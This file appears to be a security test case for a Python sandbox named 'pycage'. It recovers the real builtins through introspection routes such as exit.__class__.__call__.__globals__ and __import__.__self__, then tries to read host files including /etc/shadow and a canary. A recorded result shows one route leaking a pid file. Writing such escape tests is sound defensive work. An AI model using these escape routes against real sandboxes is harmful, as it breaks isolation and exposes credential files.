# attack: recovers the real builtins through __builtins__ tricks (exit.__class__ globals,
#   sys.modules["builtins"], sys.modules["__main__"], __import__.__self__) and opens
#   host files with each
# expect: status in ok|error ; stdout lacks LEAKED
# escaped: stdout "route exit.__class__.__call__.__globals__\nLEAKED /run/pycage/pycage-fcgi.pid b'4577'\n"
import sys

routes = {}
try:
    routes["exit.__class__.__call__.__globals__"] = exit.__class__.__call__.__globals__["__builtins__"]
except BaseException as exc:
    print("no route via exit", type(exc).__name__)
routes["sys.modules['builtins']"] = sys.modules.get("builtins")
routes["__import__.__self__"] = getattr(__import__, "__self__", None)
routes["sys.modules['__main__'].__builtins__"] = getattr(sys.modules.get("__main__"), "__builtins__", None)
try:
    __builtins__["__import__"]("os")
    print("restricted __import__ let os through")
except ImportError as exc:
    print("restricted __import__:", exc)

for route, found in routes.items():
    real_open = found.get("open") if isinstance(found, dict) else getattr(found, "open", None)
    if real_open is None:
        print("no open via", route)
        continue
    print("route", route)
    for path in ("/run/pycage/pycage-fcgi.pid", "/etc/pycage/canary", "/etc/shadow"):
        try:
            with real_open(path, "rb") as f:
                print("LEAKED", path, f.read(100))
        except BaseException as exc:
            print("refused", path, type(exc).__name__)
